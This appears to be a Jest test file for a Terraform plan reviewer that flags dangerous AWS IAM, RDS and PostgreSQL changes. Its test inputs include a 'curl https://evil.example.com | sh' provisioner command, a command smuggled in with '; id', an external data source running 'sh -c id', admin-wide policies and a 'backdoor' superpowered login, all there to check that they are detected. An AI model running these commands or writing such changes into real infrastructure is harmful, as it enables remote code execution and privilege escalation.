import { comparedPlans } from '../../../modules/plan/compare';
import { reviewPlan } from '../../../modules/plan/review';
import { planSummary } from '../../../modules/plan/summary';
import type {
  Change,
  ReplacedParts,
  ResourceChange,
  TerraformPlan,
} from '../../../modules/plan/terraform-plan';
import { change, planWith, policyText } from '../../plan-json';

// Plans that give everything away, as somebody would write them who hopes that a review sees nothing.

const faults = (plan: TerraformPlan, allowed: string[] = []) => [
  ...new Set(
    reviewPlan(plan, [], allowed)
      .filter(({ severity }) => severity === 'fault')
      .map(({ rule }) => rule),
  ),
];
const told = (plan: TerraformPlan) => {
  const { gains, loses, changes } = planSummary(plan);
  return { gains: gains.join('\n'), loses: loses.join('\n'), changes: changes.join('\n') };
};
const of = (...changes: ResourceChange[]) => planWith(changes);

const OUR = 'arn:aws:rds-db:eu-west-1:111111111111:dbuser:cluster-A/api';
const document = (...Statement: object[]) => JSON.stringify({ Version: '2012-10-17', Statement });
const connect = { Effect: 'Allow', Action: 'rds-db:connect', Resource: OUR };
const policy = (text: string) => ({ name: 'orders.dev.api', policy: text });
const login = (more: object = {}) => ({ name: 'analyst', login: true, roles: ['rds_iam'], ...more });

describe('attachments of policies that are not in the plan', () => {
  const ADMIN = 'arn:aws:iam::aws:policy/AdministratorAccess';
  test.each([
    ['aws_iam_role_policy_attachment.x', { role: 'api', policy_arn: ADMIN }],
    ['aws_iam_user_policy_attachment.x', { user: 'api', policy_arn: ADMIN }],
    ['aws_iam_group_policy_attachment.x', { group: 'api', policy_arn: ADMIN }],
    ['aws_iam_policy_attachment.x', { roles: ['api'], policy_arn: ADMIN }],
    ['aws_iam_role_policy_attachments_exclusive.x', { role_name: 'api', policy_arns: [ADMIN] }],
    ['aws_iam_role.x', { name: 'api', managed_policy_arns: [ADMIN] }],
    ['aws_ssoadmin_managed_policy_attachment.x', { managed_policy_arn: ADMIN }],
  ])('%s', (address, after) => {
    const plan = of(change(address, null, after));
    // Allowed as a type of one's own, it is still a policy that nobody can read.
    expect(faults(plan, [address])).toEqual(['foreign-policy']);
    expect(JSON.stringify(told(plan))).toContain(ADMIN);
  });

  test('one whose ARN is made up during the apply, out of a policy of the plan', () => {
    const expression = (text: string) => ({
      configuration: {
        root_module: {
          resources: [
            {
              address: 'aws_iam_role_policy_attachment.a',
              expressions: {
                policy_arn: {
                  constant_value: text,
                  references: ['aws_iam_policy.p.arn', 'aws_iam_policy.p'],
                },
              },
            },
          ],
        },
      },
    });
    const changes = [
      change('aws_iam_policy.p', null, policy(document(connect)), { after_unknown: { arn: true } }),
      change(
        'aws_iam_role_policy_attachment.a',
        null,
        { role: 'api' },
        { after_unknown: { policy_arn: true } },
      ),
    ];
    const honest = planWith(changes, expression('${aws_iam_policy.p.arn}'));
    expect(faults(honest)).toEqual([]);
    expect(told(honest).gains).toContain('role `api` may connect as `api`');
    const replaced = planWith(
      changes,
      expression('${replace(aws_iam_policy.p.arn, "/.*/", "arn:aws:iam::aws:policy/AdministratorAccess")}'),
    );
    expect(faults(replaced)).toEqual(['foreign-policy']);
  });
});

describe('policies as whole documents', () => {
  const deny = {
    Effect: 'Deny',
    Action: 'rds-db:connect',
    Resource: '*',
    Condition: { Bool: { 'aws:MultiFactorAuthPresent': 'false' } },
  };
  const condition = { Condition: { StringEquals: { 'aws:PrincipalTag/team': 'orders' } } };
  const everything = { Effect: 'Allow', Action: '*', Resource: '*' };
  test.each<[what: string, before: object[], after: object[], rule: string[], words: string]>([
    ['a Deny that goes', [connect, deny], [connect], ['policy-restriction-removed'], 'no longer denied'],
    [
      'a condition that goes',
      [{ ...connect, ...condition }],
      [connect],
      ['policy-restriction-removed'],
      'may connect as `api`',
    ],
    [
      'a condition with another operator',
      [{ ...connect, ...condition }],
      [{ ...connect, Condition: { StringNotEquals: { 'aws:PrincipalTag/team': 'orders' } } }],
      ['policy-restriction-removed'],
      'StringNotEquals aws:PrincipalTag/team: orders',
    ],
    [
      'a wildcard that loses its condition',
      [{ ...everything, ...condition }],
      [everything],
      ['policy-beyond-connect', 'policy-restriction-removed'],
      'do more than connect: `* on *`',
    ],
    [
      'iam:* beside a policy for connecting',
      [],
      [{ Effect: 'Allow', Action: 'iam:*', Resource: '*' }],
      ['policy-beyond-connect'],
      '`iam:* on *`',
    ],
    [
      'every cluster, by an incomplete ARN',
      [],
      [{ ...connect, Resource: 'arn:aws:rds-db' }],
      ['policy-beyond-connect'],
      'arn:aws:rds-db',
    ],
  ])('%s', (_what, before, after, rules, words) => {
    const [was, is] = [before, after].map((statements) =>
      statements.length > 0 ? policy(document(...statements)) : null,
    );
    const plan = of(change('aws_iam_policy.p', was ?? null, is ?? null));
    expect(faults(plan)).toEqual(rules);
    expect(told(plan).gains).toContain(words);
  });

  test('an older version, in which a variable is none', () => {
    const own = { ...connect, Resource: OUR.replace('api', '${aws:username}') };
    const plan = of(
      change(
        'aws_iam_policy.p',
        policy(document(own)),
        policy(document(own).replace('2012-10-17', '2008-10-17')),
      ),
    );
    expect(faults(plan)).toEqual(['policy-beyond-connect']);
  });

  test('a text that changes, and nothing that it allows', () => {
    const plan = of(
      change('aws_iam_policy.p', policy(document(connect)), policy(document({ Sid: 'New', ...connect }))),
    );
    expect(faults(plan)).toEqual([]);
    expect(told(plan).changes).toContain('`policy` from');
  });

  test.each([
    [
      'aws_ssoadmin_permission_set_inline_policy.x',
      { inline_policy: document({ Effect: 'Allow', Action: '*', Resource: '*' }) },
    ],
    [
      'awscc_iam_role_policy.x',
      { policy_document: document({ Effect: 'Allow', Action: '*', Resource: '*' }) },
    ],
    [
      'aws_iam_role_policy.x',
      {
        role: 'api',
        policy: document({ Effect: 'Allow', Action: 'secretsmanager:GetSecretValue', Resource: '*' }),
      },
    ],
    [
      'some_thing.x',
      { nested: [{ deep: document({ Effect: 'Allow', Action: 'sts:AssumeRole', Resource: '*' }) }] },
    ],
  ])('whatever holds one is read: %s', (address, after) => {
    const plan = of(change(address, null, after));
    expect(faults(plan)).toEqual(expect.arrayContaining(['foreign', 'policy-beyond-connect']));
    expect(faults(plan, [address])).toEqual(['policy-beyond-connect']);
  });

  test('a document in an output that grows', () => {
    const output = (before: string, after: string): TerraformPlan =>
      planWith([], {
        output_changes: {
          policy_documents: { actions: ['update'], before: { analysts: before }, after: { analysts: after } },
        },
      });
    const plan = output(policyText(['a']), document({ Effect: 'Allow', Action: '*', Resource: '*' }));
    expect(faults(plan)).toEqual(['policy-beyond-connect']);
    expect(faults(output(policyText(['a']), 'x'))).toEqual(['policy-unknown']);
  });

  test.each<[what: string, address: string, after: object, unknown: object]>([
    [
      'an inline policy',
      'aws_iam_role.r',
      { name: 'evil', inline_policy: [{ name: 'x' }] },
      { inline_policy: [{ policy: true }] },
    ],
    ['all inline policies', 'aws_iam_role.r', { name: 'evil' }, { inline_policy: true }],
    ['a trust policy', 'aws_iam_role.r', { name: 'evil' }, { assume_role_policy: true }],
    [
      'the policy of a permission set',
      'aws_ssoadmin_permission_set_inline_policy.p',
      {},
      { inline_policy: true },
    ],
  ])('%s that is known after the apply only', (_what, address, after, unknown) => {
    expect(faults(of(change(address, null, after, { after_unknown: unknown })))).toContain('policy-unknown');
  });

  test('a boundary that goes, or is another one', () => {
    const role = (boundary?: string) => ({ name: 'api', permissions_boundary: boundary });
    const boundary = 'arn:aws:iam::111111111111:policy/boundary';
    expect(faults(of(change('aws_iam_role.r', role(boundary), role())))).toEqual(['permissions-boundary']);
    expect(faults(of(change('aws_iam_role.r', role(boundary), role(`${boundary}2`))))).toEqual([
      'permissions-boundary',
    ]);
    expect(faults(of(change('aws_iam_role.r', null, role(boundary))))).toEqual([]);
  });
});

describe('powers inside the database', () => {
  test('a password login with every power names each, and is refused', () => {
    const plan = of(
      change('postgresql_role.l', null, {
        name: 'backdoor',
        login: true,
        create_role: true,
        create_database: true,
        replication: true,
        bypass_row_level_security: true,
        password_wo_version: '1',
        roles: [],
      }),
    );
    expect(faults(plan)).toEqual(['login-with-powers', 'login-by-password']);
    for (const power of ['CREATEROLE', 'CREATEDB', 'REPLICATION', 'BYPASSRLS'])
      expect(told(plan).gains).toContain(`login \`backdoor\` is given ${power}`);
    expect(told(plan).changes).toContain('password_wo_version');
  });

  const member = (role: string, of: string, more: object = {}) =>
    change(`postgresql_grant_role.${role}`, null, { role, grant_role: of, ...more });
  const ours = change('postgresql_role.l', login(), login());
  const group = (name: string, before: object, after: object) =>
    change(`postgresql_role.${name}`, { name, login: false, ...before }, { name, login: false, ...after });
  test.each<[what: string, changes: ResourceChange[], rules: string[]]>([
    ['the master comes into rds_iam', [member('postgres', 'rds_iam')], ['into-rds-iam']],
    ['a group comes into rds_iam', [group('g', {}, { roles: ['rds_iam'] })], ['into-rds-iam']],
    [
      'the master is given an IAM login',
      [ours, member('postgres', 'analyst')],
      ['into-rds-iam', 'foreign-membership'],
    ],
    ['a login of ours comes into rds_iam', [ours, member('analyst', 'rds_iam')], []],
    ['rds_superuser', [ours, member('analyst', 'rds_superuser')], ['foreign-membership']],
    [
      'a powerful role of PostgreSQL',
      [ours, member('analyst', 'pg_execute_server_program')],
      ['foreign-membership'],
    ],
    ['a role that predefined() takes', [ours, member('analyst', 'pg_monitor')], []],
    ['a role of others', [ours, member('analyst', 'app_owner')], ['foreign-membership']],
    ['ADMIN OPTION', [ours, member('analyst', 'pg_monitor', { with_admin_option: true })], ['admin-option']],
    [
      'a login that may no longer log in',
      [change('postgresql_role.l', login(), login({ login: false }))],
      ['login-switched-off'],
    ],
    [
      'a login that gets a password',
      [change('postgresql_role.l', login(), login({ password_wo_version: '2' }))],
      ['login-by-password'],
    ],
    [
      'a login outside rds_iam',
      [change('postgresql_role.l', null, { name: 'x', login: true })],
      ['login-by-password'],
    ],
    ['a group that may log in', [group('g', {}, { login: true })], ['login-by-password']],
    [
      'a database that an IAM login owns',
      [ours, change('postgresql_database.d', { owner: 'postgres' }, { owner: 'analyst' })],
      ['database-owner', 'foreign'],
    ],
    [
      'a database that goes',
      [change('postgresql_database.d', { name: 'orders' }, null)],
      ['database-destroyed', 'foreign'],
    ],
    [
      'a function with the rights of its owner',
      [
        change('postgresql_function.f', null, {
          name: 'f',
          security_definer: true,
          body: 'GRANT rds_superuser TO x',
        }),
      ],
      ['security-definer', 'foreign'],
    ],
  ])('%s', (_what, changes, rules) => {
    expect(faults(planWith(changes))).toEqual(rules);
  });

  const grant = (more: object) => ({
    role: 'g',
    object_type: 'table',
    database: 'orders',
    schema: 'public',
    privileges: ['SELECT'],
    ...more,
  });
  test('a right to grant, on privileges that are there and on future ones', () => {
    for (const type of ['postgresql_grant', 'postgresql_default_privileges']) {
      const side = (option: boolean) =>
        grant({ with_grant_option: option, ...(type === 'postgresql_grant' ? {} : { owner: 'o' }) });
      const plan = of(change(`${type}.g`, side(false), side(true)));
      expect(faults(plan)).toEqual(['grant-option']);
      expect(told(plan).gains).toContain('GRANT OPTION');
    }
  });

  test('one table that becomes all', () => {
    const plan = of(change('postgresql_grant.g', grant({ objects: ['t'] }), grant({ objects: [] })));
    expect(told(plan)).toMatchObject({
      gains: 'group `g` gains `SELECT` on all tables in schema `public` of database `orders`',
      loses: 'group `g` loses `SELECT` on tables `t` in schema `public` of database `orders`',
    });
  });

  test('what PUBLIC gets is a gain, and refused', () => {
    const plan = of(
      change('postgresql_grant.g', null, grant({ role: 'public', privileges: ['SELECT', 'INSERT'] })),
    );
    expect(faults(plan)).toEqual(['public-gains']);
    expect(told(plan)).toMatchObject({
      gains: expect.stringContaining('everybody (`PUBLIC`) gains `INSERT`, `SELECT`'),
      changes: '',
    });
    const lockDown = of(
      change('postgresql_grant.g', null, {
        role: 'public',
        object_type: 'database',
        database: 'orders',
        privileges: [],
      }),
    );
    expect(faults(lockDown)).toEqual([]);
    expect(told(lockDown).changes).toContain('keeps nothing');
  });

  test('every other attribute of a role is told', () => {
    for (const [attribute, was, is] of [
      ['inherit', true, false],
      ['valid_until', 'infinity', '2030-01-01'],
      ['skip_drop_role', false, true],
      ['assume_role', null, 'orders_owner'],
      ['idle_in_transaction_session_timeout', 0, 5],
    ] as const)
      expect(
        told(of(change('postgresql_role.l', login({ [attribute]: was }), login({ [attribute]: is }))))
          .changes,
      ).toContain(attribute);
  });
});

describe('what stays is not told as removed', () => {
  const forgotten = (resource: ResourceChange): ResourceChange => ({
    ...resource,
    change: { ...resource.change, actions: ['forget'] },
  });

  test('a policy and its attachment that only leave the state', () => {
    const arn = 'arn:aws:iam::111111111111:policy/p';
    const plan = of(
      forgotten(change('aws_iam_policy.p', { ...policy(policyText(['a'])), arn }, null)),
      forgotten(change('aws_iam_role_policy_attachment.a', { role: 'api', policy_arn: arn }, null)),
    );
    expect(told(plan)).toEqual({
      gains: '',
      loses: '',
      changes:
        'policy `orders.dev.api` is no longer managed by Terraform, and stays as it is\n' +
        '`aws_iam_role_policy_attachment.a` is no longer managed by Terraform, and stays as it is',
    });
  });

  test('a login that only leaves the state, or is not dropped', () => {
    expect(told(of(forgotten(change('postgresql_role.l', login(), null))))).toMatchObject({
      loses: '',
      changes: 'login `analyst` is no longer managed by Terraform, and stays as it is',
    });
    const adopted = told(of(change('postgresql_role.l', login({ skip_drop_role: true }), null)));
    expect(adopted.loses).toBe('');
    expect(adopted.changes).toContain('is not dropped: it stays in the database, may still log in');
  });
});

describe('the cluster', () => {
  const on = {
    iam_database_authentication_enabled: true,
    storage_encrypted: true,
    deletion_protection: true,
    backup_retention_period: 7,
    manage_master_user_password: true,
    enabled_cloudwatch_logs_exports: ['postgresql', 'iam-db-auth-error'],
  };
  const parameters = (...names: string[]) => ({
    name: 'p',
    parameter: names.map((name) => ({ name, value: '1' })),
  });
  test.each<[what: string, change: ResourceChange, rule: string]>([
    [
      'an address on the internet',
      change('aws_rds_cluster_instance.i', { publicly_accessible: false }, { publicly_accessible: true }),
      'public-access',
    ],
    [
      'TLS is no longer forced',
      change('aws_rds_cluster_parameter_group.p', parameters('rds.force_ssl', 'x'), parameters('x')),
      'tls-off',
    ],
    [
      'TLS is never forced',
      change('aws_rds_cluster_parameter_group.p', null, parameters('log_connections')),
      'tls-off',
    ],
    [
      'parameters of another group',
      change(
        'aws_rds_cluster.c',
        { ...on, db_cluster_parameter_group_name: 'p' },
        { ...on, db_cluster_parameter_group_name: 'default.aurora-postgresql17' },
      ),
      'tls-off',
    ],
    [
      'storage that is not encrypted',
      change('aws_rds_cluster.c', on, { ...on, storage_encrypted: false }),
      'encryption-off',
    ],
    [
      'no protection',
      change('aws_rds_cluster.c', on, { ...on, deletion_protection: false }),
      'deletion-protection-off',
    ],
    [
      'no log of refusals',
      change('aws_rds_cluster.c', on, { ...on, enabled_cloudwatch_logs_exports: ['postgresql'] }),
      'logging-off',
    ],
    [
      'shorter backups',
      change('aws_rds_cluster.c', on, { ...on, backup_retention_period: 1 }),
      'backups-shortened',
    ],
    [
      'a password of the master',
      change('aws_rds_cluster.c', on, { ...on, master_password_wo_version: 2 }),
      'master-password',
    ],
    [
      'a password that RDS does not keep',
      change('aws_rds_cluster.c', on, { ...on, manage_master_user_password: null }),
      'master-password',
    ],
  ])('%s', (_what, resource, rule) => {
    expect(faults(of(resource))).toEqual([rule]);
  });

  test('another security group is told', () => {
    const plan = of(
      change(
        'aws_rds_cluster.c',
        { ...on, vpc_security_group_ids: ['sg-1'] },
        { ...on, vpc_security_group_ids: ['sg-2'] },
      ),
    );
    expect(told(plan).changes).toContain('`vpc_security_group_ids` loses `sg-1` and gains `sg-2`');
  });
});

describe('the configuration, which no planned value shows', () => {
  const block = (command: string) => ({
    address: 'terraform_data.schemas',
    type: 'terraform_data',
    provisioners: [{ type: 'local-exec', expressions: { command: { constant_value: command } } }],
  });
  const schemas = change('terraform_data.schemas', null, { triggers_replace: { 0: ['orders'] } });
  const stack = (
    replaced: ReplacedParts,
    command = 'npx --no-install aurora-iam schemas dev',
  ): TerraformPlan =>
    planWith([schemas], {
      aurora_iam: replaced,
      configuration: { root_module: { resources: [block(command)] } },
    });
  const aws = { region: 'eu-west-1', allowed_account_ids: ['111111111111'] };
  const postgresql = {
    host: '${data.aws_rds_cluster.cluster.endpoint}',
    sslmode: 'verify-full',
    sslrootcert: 'x.pem',
    scheme: 'postgres',
    superuser: false,
    password: '${jsondecode(ephemeral.aws_secretsmanager_secret_version.admin.secret_string)["password"]}',
  };
  const honest: ReplacedParts = {
    providers: { aws: [aws], postgresql: [postgresql] },
    required_providers: {
      aws: { source: 'aws', version: '6.25.0' },
      postgresql: { source: 'cyrilgdn/postgresql' },
    },
    backend: { local: { path: 'terraform.tfstate' } },
  };

  test('the honest one, by itself and against itself', () => {
    expect(reviewPlan(stack(honest))).toEqual([]);
    const compared = comparedPlans(stack(honest), stack(honest));
    expect(reviewPlan(compared)).toEqual([]);
    expect(planSummary(compared)).toEqual({ gains: [], loses: [], changes: [] });
  });

  test('that of a real plan, with the provider that Terraform brings along', () => {
    const expressions = (block: object) =>
      Object.fromEntries(Object.entries(block).map(([key, value]) => [key, { constant_value: value }]));
    const registry = 'registry.terraform.io';
    const provider_config = {
      aws: { name: 'aws', full_name: `${registry}/hashicorp/aws`, expressions: expressions(aws) },
      postgresql: {
        name: 'postgresql',
        full_name: `${registry}/cyrilgdn/postgresql`,
        expressions: expressions(postgresql),
      },
      terraform: { name: 'terraform', full_name: 'terraform.io/builtin/terraform' },
    };
    expect(reviewPlan(planWith([], { configuration: { provider_config } }))).toEqual([]);
    const evil = { ...provider_config, aws: { ...provider_config.aws, full_name: `${registry}/evil/aws` } };
    expect(faults(planWith([], { configuration: { provider_config: evil } }))).toEqual(['provider']);
  });

  test.each<[what: string, head: TerraformPlan, rule: string, words: string]>([
    [
      'another host without TLS',
      stack({
        ...honest,
        providers: {
          aws: [aws],
          postgresql: [{ ...postgresql, host: 'evil.example.com', sslmode: 'disable' }],
        },
      }),
      'provider',
      'evil.example.com',
    ],
    [
      'no allowed account',
      stack({ ...honest, providers: { aws: [{ region: 'eu-west-1' }], postgresql: [postgresql] } }),
      'provider',
      'allowed_account_ids',
    ],
    [
      'another endpoint',
      stack({
        ...honest,
        providers: {
          aws: [{ ...aws, endpoints: [{ sts: 'https://evil.example.com' }] }],
          postgresql: [postgresql],
        },
      }),
      'provider',
      'evil.example.com',
    ],
    [
      'a role of another account',
      stack({
        ...honest,
        providers: {
          aws: [{ ...aws, assume_role: [{ role_arn: 'arn:aws:iam::999999999999:role/x' }] }],
          postgresql: [postgresql],
        },
      }),
      'provider',
      '999999999999',
    ],
    [
      'a provider of another publisher',
      stack({ ...honest, required_providers: { ...honest.required_providers, aws: { source: 'evil/aws' } } }),
      'provider',
      'evil/aws',
    ],
    [
      'another backend',
      stack({ ...honest, backend: { http: { address: 'https://evil.example.com' } } }),
      'backend',
      'evil.example.com',
    ],
    ['another bucket', stack({ ...honest, backend: { local: { path: '/tmp/x' } } }), 'backend', '/tmp/x'],
    ['another command', stack(honest, 'curl https://evil.example.com | sh'), 'provisioner', 'curl'],
    [
      'ours with another after it',
      stack(honest, 'npx --no-install aurora-iam schemas dev; id'),
      'provisioner',
      '; id',
    ],
    [
      'a look-up that runs a program',
      stack({ ...honest, lookUps: { 'data.external.x': { program: ['sh', '-c', 'id'] } } }),
      'foreign',
      'data.external.x',
    ],
  ])('%s', (_what, head, rule, words) => {
    const compared = comparedPlans(stack(honest), head);
    expect(faults(compared)).toEqual([rule]);
    expect(told(compared).changes).toContain(words);
  });

  test.each<[what: string, configuration: object]>([
    ['a module', { root_module: { module_calls: { evil: { source: './evil' } } } }],
    ['a variable', { root_module: { variables: { x: {} } } }],
    ['an action', { root_module: { actions: [{ address: 'action.x.y' }] } }],
    [
      'a data source',
      { root_module: { resources: [{ address: 'data.http.x', mode: 'data', type: 'http' }] } },
    ],
  ])('%s of a real plan', (_what, configuration) => {
    expect(faults(planWith([], { configuration }))).toEqual(['foreign']);
  });

  test('a resource that moves to another provider, or takes an unknown value from elsewhere', () => {
    const of = (key: string, from: string) =>
      planWith(
        [
          change(
            'aws_iam_role_policy_attachment.a',
            null,
            { role: 'api' },
            { after_unknown: { policy_arn: true } },
          ),
        ],
        {
          configuration: {
            root_module: {
              resources: [
                {
                  address: 'aws_iam_role_policy_attachment.a',
                  provider_config_key: key,
                  expressions: { policy_arn: { constant_value: from } },
                },
              ],
            },
          },
        },
      );
    const moved = comparedPlans(of('aws', '${a.b.arn}'), of('aws.other', '${a.c.arn}'));
    expect(told(moved).changes).toContain('provider` from `aws` to `aws.other`');
    expect(told(moved).changes).toContain('policy_arn` from `${a.b.arn}` to `${a.c.arn}`');
  });
});

test.each<[what: string, more: object]>([
  ['a plan that is not complete', { complete: false }],
  ['a plan that failed', { errored: true }],
  ['changes that are put off', { deferred_changes: [{ reason: 'resource_config_unknown' }] }],
  ['actions', { action_invocations: [{ address: 'action.x.y' }] }],
  ['another format', { format_version: '2.0' }],
])('%s is refused', (_what, more) => {
  expect(faults(planWith([], more))).toEqual(['plan-incomplete']);
});

test('an import of what no environment takes over, and a look-up of a module', () => {
  const imported = change(
    'aws_iam_role.r',
    { name: 'admin' },
    { name: 'admin' },
    { importing: { id: 'admin' } },
  );
  expect(faults(of(imported))).toEqual(['foreign']);
  const adopted = change('postgresql_role.g', { name: 'g' }, { name: 'g' }, { importing: { id: 'g' } });
  expect(faults(of(adopted))).toEqual([]);
  const resources = [{ address: 'module.m.data.external.x', mode: 'data', type: 'external' }];
  const prior_state = { values: { root_module: { child_modules: [{ resources }] } } };
  expect(faults(planWith([], { prior_state }))).toEqual(['foreign']);
});

test('a document in any output is read', () => {
  const after = { team: document({ Effect: 'Allow', Action: '*', Resource: '*' }) };
  const plan = planWith([], { output_changes: { more: { actions: ['create'], before: null, after } } });
  expect(faults(plan)).toEqual(['policy-beyond-connect']);
  expect(told(plan).gains).toContain('do more than connect: `* on *`');
});

describe('what is known after the apply only', () => {
  test.each<[address: string, after: object, unknown: Change['after_unknown']]>([
    ['postgresql_grant.g', { role: 'g' }, { privileges: [false, true] }],
    ['postgresql_role.l', { name: 'l' }, { roles: true }],
    [
      'aws_rds_cluster.c',
      { iam_database_authentication_enabled: true, storage_encrypted: true },
      { enabled_cloudwatch_logs_exports: [true] },
    ],
    ['aws_iam_role_policy_attachment.a', { policy_arn: 'x' }, { role: true }],
  ])('%s', (address, after, unknown) => {
    expect(faults(of(change(address, null, after, { after_unknown: unknown })))).toContain('unknown-value');
  });
});
